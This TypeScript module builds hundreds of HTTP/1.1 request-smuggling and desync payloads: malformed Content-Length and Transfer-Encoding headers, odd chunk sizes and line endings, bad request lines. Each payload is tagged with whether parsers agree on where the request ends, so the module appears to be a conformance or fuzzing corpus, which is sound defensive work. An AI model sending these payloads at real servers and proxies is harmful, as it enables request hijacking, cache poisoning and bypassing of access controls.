/**
 * Requests that are not what they seem: RFC 9112 section by section, and what public collections of
 * smuggling and desync attacks send (CL.TE, TE.CL, TE.TE, CL.0, TE.0, TERM.EXT, EXT.TERM, TERM.SPILL,
 * SPILL.TERM, and the disguises of the two framing fields).
 *
 * @module
 */

/** A request to be sent in front of somebody else's, and what there is in it for a server to fall for. */
export interface Payload {
  /** What is special about it; unique. */
  readonly name: string;
  /** The request, a character for each byte. */
  readonly text: string;
  /** Whether everybody agrees on where it ends, so that what follows is a request of its own. */
  readonly goesOn: boolean;
}

/** What is never to be answered: it is a part of the request before it to some, or to all. */
export const SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n";

const N = SMUGGLED.length;

/** The smuggled request as chunks. */
const CHUNKED = `${N.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`;

/** A body that is over at once for those who read chunks. */
const EMPTY_CHUNKED = `0\r\n\r\n${SMUGGLED}`;

/** Header lines by which everybody reads a body of {@linkcode N} bytes. */
const PLAIN_LENGTHS = [
  `Content-Length: ${N}`,
  `content-length:${N}`,
  `CONTENT-LENGTH: \t${N}`,
  `Content-Length: ${N} \t `,
  `X-Content-Length: 0\r\nContent-Length: ${N}`,
  `Content-Length: ${N}\r\nX-Transfer-Encoding: chunked`,
  `Content-Length: ${N}\r\nContent-Encoding: chunked`,
  `Content-Length: ${N}\r\nTE: chunked`,
  `Content-Length: ${N}\r\nTransfer: chunked\r\nEncoding: chunked`,
  `Content-Length: ${N}\r\nX: Transfer-Encoding: chunked`,
  `Content-Length: ${N}\r\nTrailer: Transfer-Encoding`,
];

/** Header lines by which some read a body of {@linkcode N} bytes, and others none or another one. */
const ODD_LENGTHS = [
  // RFC 9110, section 8.6: 1*DIGIT
  ...["+N", "-N", "0xN", "00N", "N.0", "Ne0", "0N", "N_0", "_N", "N N", "N 0", "N;", '"N"', "'N'"],
  ...[
    "\x0bN",
    "\x0cN",
    "\x1cN",
    "\xa0N",
    "\x85N",
    "N\x0b",
    "N\xa0",
    "N\0",
    "\0N",
    "N\0 0",
    "N\x7f",
  ],
  ...[
    "",
    "x",
    "N x",
    "N\tx",
    "\xb2",
    "N\xb2",
    "18446744073709551616",
    "9".repeat(40),
    "9007199254740993",
  ],
  ...["NaN", "Infinity", "1e1", "%30", "0b11", "0o17", "N%00", "(N)", "=N", ":N", ": N"],
  // RFC 9112, section 6.3, rule 5: a list
  ...["N,N", "N, N", "0, N", "N, 0", "N,", ",N", "N;N", "N\t,\tN", "N,0"],
].map((value) => `Content-Length: ${value.replace(/N(?!a)/g, String(N))}`).concat([
  // Repeated
  `Content-Length: ${N}\r\nContent-Length: ${N}`,
  `Content-Length: ${N}\r\nContent-Length: 0`,
  `Content-Length: 0\r\nContent-Length: ${N}`,
  `Content-Length: 0\r\ncontent-length: ${N}`,
  `Content-Length: ${N}\r\nX: y\r\nCONTENT-LENGTH: 1`,
  // RFC 9112, section 5: the name
  `Content-Length : ${N}`,
  `Content-Length\t: ${N}`,
  `Content-Length\x0b: ${N}`,
  `Content-Length\xa0: ${N}`,
  `Content-Length\x00: ${N}`,
  `Content\x00-Length: ${N}`,
  `\x00Content-Length: ${N}`,
  `\x0bContent-Length: ${N}`,
  `\x7fContent-Length: ${N}`,
  `\xefContent-Length: ${N}`,
  `Content Length: ${N}`,
  `Content_Length: ${N}`,
  `Content--Length: ${N}\r\nno colon`,
  `"Content-Length": ${N}`,
  `'Content-Length': ${N}\r\n(x): y`,
  `Content-Length; ${N}`,
  `Content-Length = ${N}`,
  `Content-Length ${N}`,
  `Content-Length\r\n: ${N}`,
  `Content-\r\n Length: ${N}`,
  `Content-Length:: ${N}`,
  `:Content-Length: ${N}`,
  `[Content-Length]: ${N}`,
  `Content-Length/: ${N}`,
  // RFC 9112, section 5.2: folds
  ` Content-Length: ${N}`,
  `\tContent-Length: ${N}`,
  `X: y\r\n Content-Length: ${N}`,
  `X:\r\n\tContent-Length: ${N}`,
  `Content-Length:\r\n ${N}`,
  `Content-Length:\r\n\t${N}`,
  `Content-Length: ${N}\r\n 0`,
  `Content-Length: 0\r\n ${N}`,
  `Content-Length: ${N}\r\n `,
  // RFC 9112, section 2.2: line ends
  `X: y\rContent-Length: ${N}`,
  `X: y\nContent-Length: ${N}`,
  `X: y\r\rContent-Length: ${N}`,
  `X: y\n\rContent-Length: ${N}`,
  `X: y\r\r\nContent-Length: ${N}`,
  `Content-Length: ${N}\r`,
  `Content-Length: ${N}\rX: y`,
  `Content-Length: ${N}\nX: y`,
  `Content-Length: \r${N}`,
  `Content-Length: \n ${N}`,
  `\rContent-Length: ${N}`,
  `X: y\0\r\nX: \0\r\nContent-Length: ${N}`,
  // What Python's parser stops at or skips, so that it does not see the field
  `no colon\r\nContent-Length: ${N}`,
  `\xe9: y\r\nContent-Length: ${N}`,
  `A B: y\r\nContent-Length: ${N}`,
  `A\0: y\r\nContent-Length: ${N}`,
  `: y\r\nContent-Length: ${N}`,
  `From x\r\nContent-Length: ${N}`,
  `X: y\r\nFrom z\r\nContent-Length: ${N}`,
  `--x\r\nContent-Length: ${N}`,
  `Content-Type: multipart/mixed; boundary=x\r\nno colon\r\n--x\r\nContent-Length: ${N}`,
  // Fields that a proxy takes out on its way (RFC 9110, section 7.6.1)
  `Connection: Content-Length\r\nContent-Length: ${N}`,
  `Connection: close, content-length\r\nContent-Length: ${N}`,
  `Connection: keep-alive, Content-Length\r\nContent-Length: ${N}`,
]);

/** Transfer codings that some take for chunked, and others for something else or nothing. */
const ODD_CODINGS = [
  // RFC 9112, sections 6.1 and 7: the value
  ...[
    "chunked, identity",
    "identity, chunked",
    "identity",
    "gzip",
    "gzip, chunked",
    "chunked, gzip",
  ],
  ...["chunked, chunked", "chunked,", ",chunked", "xchunked", "chunkedx", "x-chunked", "chunk", ""],
  ...[
    "cow",
    "chunked;q=1",
    "chunked; x=y",
    "chunked ;",
    '"chunked"',
    "'chunked'",
    '"chunked',
    "%63hunked",
  ],
  ...["\x0bchunked", "\x0cchunked", "\x1fchunked", "\x85chunked", "\xa0chunked", "chunked\x0b"],
  ...[
    "chunked\0",
    "\0chunked",
    "chun\0ked",
    "chunked\x7f",
    "chunked\xff",
    "ch\xfcnked",
    "chunked.",
    "chunked:",
  ],
  ...[
    "chunked cow",
    "cow chunked",
    "chunked\tcow",
    "(chunked)",
    "chunked=",
    "=chunked",
    "chu nked",
  ],
  ...["chunked identity", "identity;chunked", "null", "none", "chunked\xa0", "CHUNKED, IDENTITY"],
].map((value) => `Transfer-Encoding: ${value}`).concat([
  // Repeated
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
  "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\ntransfer-encoding: identity",
  // The name
  "Transfer-Encoding : chunked",
  "Transfer-Encoding\t: chunked",
  "Transfer-Encoding\x0b: chunked",
  "Transfer-Encoding\0: chunked",
  "Transfer-Encoding\xa0: chunked",
  "Transfer-Encoding\xff: chunked",
  "\x0bTransfer-Encoding: chunked",
  "\0Transfer-Encoding: chunked",
  "\xa0Transfer-Encoding: chunked",
  "Transfer_Encoding: chunked",
  "Transfer Encoding: chunked",
  "Transfer\0-Encoding: chunked",
  '"Transfer-Encoding": chunked',
  "Transfer-Encoding:: chunked",
  "Transfer-Encoding; chunked",
  "Transfer-Encoding = chunked",
  "Transfer-Encoding chunked",
  ":Transfer-Encoding: chunked",
  "Transf\xe9r-Encoding: chunked\r\nTransfer-Encoding chunked",
  "Transfer-\r\n Encoding: chunked",
  "Transfer-Encoding\r\n: chunked",
  // Folds
  " Transfer-Encoding: chunked",
  "\tTransfer-Encoding: chunked",
  "X: y\r\n Transfer-Encoding: chunked",
  "X:\r\n\tTransfer-Encoding: chunked",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding:\r\n\tchunked",
  "Transfer-Encoding:\n chunked",
  "Transfer-Encoding: chunked\r\n , identity",
  "Transfer-Encoding: identity\r\n , chunked",
  "Transfer-Encoding: chun\r\n ked",
  "Transfer-Encoding: chunked\r\n ",
  // Line ends
  "X: y\rTransfer-Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\n\rTransfer-Encoding: chunked",
  "X: y\r\r\nTransfer-Encoding: chunked",
  "X: y\x85Transfer-Encoding: chunked\r\nno colon",
  "\rTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r",
  "Transfer-Encoding: chunked\rX: y",
  "Transfer-Encoding: chunked\nX: y",
  "Transfer-Encoding: \rchunked",
  // What Python's parser does not see
  "no colon\r\nTransfer-Encoding: chunked",
  "\xe9: y\r\nTransfer-Encoding: chunked",
  "A B: y\r\nTransfer-Encoding: chunked",
  ": y\r\nTransfer-Encoding: chunked",
  "From x\r\nTransfer-Encoding: chunked",
  // Taken out by a proxy
  "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
  "Connection: close, transfer-encoding\r\nTransfer-Encoding: chunked",
]);

/** Chunked bodies that everybody reads to the same end, the smuggled request within. */
const PLAIN_CHUNKS = [
  CHUNKED,
  `${N.toString(16).toUpperCase()}\r\n${SMUGGLED}\r\n0\r\n\r\n`,
  `000${N.toString(16)}\r\n${SMUGGLED}\r\n000\r\n\r\n`,
  `${N.toString(16)};a=b\r\n${SMUGGLED}\r\n0;c\r\n\r\n`,
  `${N.toString(16)} ; a = "b;\\"c"\r\n${SMUGGLED}\r\n0\r\n\r\n`,
  `${N.toString(16)}\r\n${SMUGGLED}\r\n0\r\nX: y\r\nZ:\r\n\r\n`,
];

/** Chunked bodies that some read to another end than others (RFC 9112, section 7.1). */
const ODD_CHUNKS = [
  // The size
  ...[
    "0xN",
    "+N",
    "-N",
    " N",
    "\tN",
    "N ",
    "N\t",
    "\x0bN",
    "N\x0b",
    "N\0",
    "\0N",
    "N_0",
    "N.0",
    "N,N",
  ],
  ...["'N'", '"N"', "\\xN", "N h", "Ng", "\xb2", "", "x", "00000000000000N", "fffffffffffffffN"],
  ...["10000000000000000N", "N\r", "\rN"],
]
  .map((size) => `${size.replace("N", N.toString(16))}\r\n${SMUGGLED}\r\n0\r\n\r\n`)
  .concat([
    // Its end: EXT.TERM and TERM.EXT
    ...[
      "\n",
      "\r",
      "\n\r",
      "\r\r\n",
      "\n\n",
      ";\n",
      ";a\n",
      ";a\r",
      ";a\nb\r\n",
      ";a\rb\r\n",
      ";a\n;b\r\n",
    ],
    ...[
      " \n",
      ';a="\n"\r\n',
      ';a="\r\n"\r\n',
      ";a='\n'\r\n",
      ';a="b\r\n',
      ";\r\n",
      "; \r\n",
      ";;\r\n",
    ],
    ...[
      ";a=\r\n",
      ";=b\r\n",
      ";a b\r\n",
      ";\0\r\n",
      ";a\0\r\n",
      ";\x0b\r\n",
      ";\xe9\r\n",
      ",a\r\n",
      ":a\r\n",
      " a\r\n",
    ],
  ].map((end) => `${N.toString(16)}${end}${SMUGGLED}\r\n0\r\n\r\n`))
  .concat([
    // Behind the data: TERM.SPILL and SPILL.TERM
    ...["", "\n", "\r", "\r\r\n", "\n\r", " \r\n", "XX", "X\r\n", "\r\nX", "\0\r\n"],
  ].map((end) => `${N.toString(16)}\r\n${SMUGGLED}${end}0\r\n\r\n`))
  .concat([
    `1\r\n${SMUGGLED}\r\n0\r\n\r\n`,
    `0\r\n${SMUGGLED}`,
    `0\n\n${SMUGGLED}`,
    `0\r\n\n${SMUGGLED}`,
    `0\n\r\n${SMUGGLED}`,
    `0\r\r${SMUGGLED}`,
    `0\r\n\r${SMUGGLED}`,
    `0 \r\n\r\n${SMUGGLED}`,
    `0\r\n \r\n${SMUGGLED}`,
    `0;\n\r\n${SMUGGLED}`,
    `0\r\nX: y\n\r\n${SMUGGLED}`,
    `0\r\nX: y\r\r\n${SMUGGLED}`,
    `0\r\nX: y\r\n z\r\n\r\n${SMUGGLED}`,
    `0\r\nX\r\n\r\n${SMUGGLED}`,
    `0\r\nX : y\r\n\r\n${SMUGGLED}`,
    `0\r\nX: \0\r\n\r\n${SMUGGLED}`,
    `0\r\nContent-Length: ${N}\r\n\r\n${SMUGGLED}`,
    `0\r\nTransfer-Encoding: chunked\r\n\r\n${CHUNKED}`,
    `0\r\nX: ${"y".repeat(5000)}\r\n\r\n${SMUGGLED}`,
    `0\r\n${"X: y\r\n".repeat(5000)}\r\n${SMUGGLED}`,
    `0\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n`,
    `\r\n${CHUNKED}`,
    `1;a=${"b".repeat(5000)}\r\nx\r\n${CHUNKED}`,
    `${`1;a=${"b".repeat(4000)}\r\nx\r\n`.repeat(10)}${CHUNKED}`,
    SMUGGLED,
  ]);

/** The ends of header blocks without a framing field, which are in different places for different readers. */
const ODD_ENDS = [
  "X: y\r\r\n\r\n",
  "X: y\r \r\n\r\n",
  "X: y\r\r\r\n\r\n",
  "X: y\r\rZ: z\r\n\r\n",
  "X: y\n\r\n",
  "X: y\n\n",
  "X: y\r\n\n",
  "X: y\nZ: z\r\n\r\n",
  "X: y\n \r\n\r\n",
  "X: y\r\n \r\n\r\n",
  "X: y\r\n\t\r\n\r\n",
  "X: y\r\n \t \r\n\r\n",
  "X: y\r\n \r\nZ: z\r\n\r\n",
  "X: y\r\n\0\r\n\r\n",
  "X: y\r\n\x0b\r\n\r\n",
  "X: y\r\n\x0c\r\n\r\n",
  "X: y\r\n\x1f\r\n\r\n",
  "X: y\r\n\x85\r\n\r\n",
  "X: y\r\n\xa0\r\n\r\n",
  "X: y\r\n\r\r\n\r\n",
  " \r\n\r\n",
  "\t\r\nX: y\r\n\r\n",
  "\r\r\n\r\n",
];

/** Request lines that some take for something else (RFC 9112, sections 2.2 and 3). */
const ODD_LINES = [
  ...["GET /attack HTTP/1.1\r\r\n", "GET /attack HTTP/1.1\n", "GET\r/attack HTTP/1.1\r\n"],
  ...["GET /attack\rHTTP/1.1\r\n", "\rGET /attack HTTP/1.1\r\n", "GET /attack HTTP/1.1 \r \r\n"],
  ...[
    "GET\x0b/attack\x0bHTTP/1.1\r\n",
    "GET /attack\x0cHTTP/1.1\r\n",
    "GET /attack\x1cHTTP/1.1\r\n",
  ],
  ...["GET /attack\x85HTTP/1.1\r\n", "GET /attack\xa0HTTP/1.1\r\n", "\xa0GET /attack HTTP/1.1\r\n"],
  ...["GET /attack\0 HTTP/1.1\r\n", "\0GET /attack HTTP/1.1\r\n", "GET /attack HTTP/1.1\0\r\n"],
  ...["GET /attack HTTP/1.1\x0b\r\n", "GET /attack\r\n", "GET /attack HTTP/0.9\r\n"],
  ...[
    "GET /attack HTTP/2.0\r\n",
    "GET /attack HTTP/1\r\n",
    "GET /attack HTTP/1.1.1\r\n",
    "GET /attack http/1.1\r\n",
  ],
  ...[
    "GET /attack HTTP/1.1 HTTP/1.1\r\n",
    "GET /attack /attack HTTP/1.1\r\n",
    "GET\r\n",
    "\r\n",
    "\n",
    " \r\n",
  ],
  ...[
    "GET /attack HTTP/1.1,\r\n",
    "GET /attack HTTPS/1.1\r\n",
    "GET /attack HTTP/-1.1\r\n",
    "GET /attack HTTP/1.\xb2\r\n",
  ],
  ...[
    "\r\nGET /attack HTTP/1.1\r\n",
    "\n\nGET /attack HTTP/1.1\r\n",
    "PRI * HTTP/2.0\r\n",
    "\x16\x03\x01\0\xa5\r\n",
  ],
].map((line) => `${line}Host: x\r\nConnection: keep-alive\r\n\r\n${SMUGGLED}`);

const LINE = "GET /attack HTTP/1.1\r\n";

/** Whole requests, about all the rest. */
const OTHERS: readonly (readonly [text: string, goesOn: boolean])[] = [
  [`${LINE}Host: x\r\n\r\n`, true],
  [`${LINE}Host: x\r\nContent-Length: 0\r\n\r\n`, true],
  [`${LINE}Host: x\r\nX: ${SMUGGLED.replaceAll("\r\n", " ")}\r\n\r\n`, true],
  [`GET /attack?${"%0d%0a"}GET%20/smuggled HTTP/1.1\r\nHost: x\r\n\r\n`, true],
  // An error ends the connection
  [`CONNECT x:443 HTTP/1.1\r\nHost: x:443\r\n\r\n${SMUGGLED}`, false],
  [`BREW /attack HTTP/1.1\r\nHost: x\r\n\r\n${SMUGGLED}`, false],
  [`BREW /attack HTTP/1.1\r\nHost: x\r\nContent-Length: ${N}\r\n\r\n${SMUGGLED}`, false],
  [`get /attack HTTP/1.1\r\nHost: x\r\n\r\n${SMUGGLED}`, false],
  [`GET /attack HTTP/3.0\r\nHost: x\r\n\r\n${SMUGGLED}`, false],
  [`${LINE}${"X: y\r\n".repeat(101)}\r\n${SMUGGLED}`, false],
  [`${LINE}X: ${"y".repeat(65536)}\r\n\r\n${SMUGGLED}`, false],
  [`GET /${"a".repeat(65536)} HTTP/1.1\r\nHost: x\r\n\r\n${SMUGGLED}`, false],
  // The connection may be something else from here on (RFC 9110, section 7.8)
  [`${LINE}Host: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n${SMUGGLED}`, false],
  [
    `${LINE}Host: x\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\nPRI * HTTP/2.0\r\n`,
    false,
  ],
  [`${LINE}Host: x\r\nupgrade: TLS/1.0\r\n\r\n${SMUGGLED}`, false],
  // Two hosts (RFC 9112, section 3.2)
  [`${LINE}Host: x\r\nHost: y\r\n\r\n${SMUGGLED}`, false],
  [`${LINE}Host: x\r\nHost: x\r\n\r\n${SMUGGLED}`, false],
  [`GET http://y/attack HTTP/1.1\r\nHost: x\r\n\r\n${SMUGGLED}`, false],
  [`GET http://x@y/attack HTTP/1.1\r\nHost: x\r\n\r\n${SMUGGLED}`, false],
  [`GET http://x/attack HTTP/1.1\r\nHost: x\r\n\r\n`, true],
  [`GET http://X/attack HTTP/1.1\r\nHost: x\r\n\r\n`, true],
  // RFC 9112, section 6.1: no transfer coding before 1.1
  [
    `GET /attack HTTP/1.0\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n${CHUNKED}`,
    false,
  ],
  [
    `GET /attack HTTP/1.00\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n${CHUNKED}`,
    false,
  ],
  [`GET /attack HTTP/1.01\r\nTransfer-Encoding: chunked\r\n\r\n${CHUNKED}`, false],
  [`GET /attack HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n${EMPTY_CHUNKED}`, false],
  [`GET /attack HTTP/1.0\r\n\r\n${SMUGGLED}`, false],
  [`GET /attack HTTP/1.0\r\nConnection: keep-alive\r\n\r\n`, true],
  [
    `GET /attack HTTP/1.0\r\nConnection: keep-alive\r\nContent-Length: ${N}\r\n\r\n${SMUGGLED}`,
    true,
  ],
  [`GET /attack HTTP/1.1\r\nConnection: close\r\n\r\n${SMUGGLED}`, false],
  // A block of bare LFs is clear as long as nothing is in it that counts
  [`GET /attack HTTP/1.1\nHost: x\n\n`, true],
  [`GET /attack HTTP/1.1\nHost: x\nContent-Length: ${N}\n\n${SMUGGLED}`, false],
];

/** Requests whose fields are what matters. */
function* framed(method: string): Generator<Omit<Payload, "name">> {
  const head = (fields: string): string =>
    `${method} /attack HTTP/1.1\r\nHost: x\r\n${fields}\r\n\r\n`;
  for (const fields of PLAIN_LENGTHS) yield { text: head(fields) + SMUGGLED, goesOn: true };
  for (const fields of ODD_LENGTHS) {
    yield { text: head(fields) + SMUGGLED, goesOn: false };
  }
  for (const fields of ODD_CODINGS) {
    const length = `Content-Length: ${EMPTY_CHUNKED.length}`;
    yield { text: head(fields) + CHUNKED, goesOn: false };
    yield { text: head(fields) + SMUGGLED, goesOn: false };
    yield { text: head(`${length}\r\n${fields}`) + EMPTY_CHUNKED, goesOn: false };
    yield { text: head(`${fields}\r\n${length}`) + EMPTY_CHUNKED, goesOn: false };
    yield { text: head(`Content-Length: 4\r\n${fields}`) + CHUNKED, goesOn: false };
  }
  for (const value of ["chunked", "Chunked", "CHUNKED", " \tchunked"]) {
    const fields = `Transfer-Encoding: ${value}`;
    for (const length of [N, 0, 4, CHUNKED.length]) {
      yield { text: head(`Content-Length: ${length}\r\n${fields}`) + CHUNKED, goesOn: false };
      yield { text: head(`${fields}\r\nContent-Length: ${length}`) + CHUNKED, goesOn: false };
    }
    for (const chunks of PLAIN_CHUNKS) yield { text: head(fields) + chunks, goesOn: true };
    for (const chunks of ODD_CHUNKS) yield { text: head(fields) + chunks, goesOn: false };
  }
  for (const end of ODD_ENDS) {
    yield { text: `${method} /attack HTTP/1.1\r\n${end}${SMUGGLED}`, goesOn: false };
  }
}

/** All of them, with a method for those that can have any. */
export function payloadsWith(method: string): Payload[] {
  const payloads = [...framed(method)];
  for (const text of ODD_LINES) payloads.push({ text, goesOn: false });
  for (const [text, goesOn] of OTHERS) payloads.push({ text, goesOn });
  return payloads.map((payload) => ({ ...payload, name: nameOf(payload.text) }));
}

function nameOf(text: string): string {
  const shown = JSON.stringify(text.replaceAll(SMUGGLED, "<SMUGGLED>"));
  return shown.length > 200 ? `${shown.slice(0, 150)}...${shown.slice(-40)}` : shown;
}
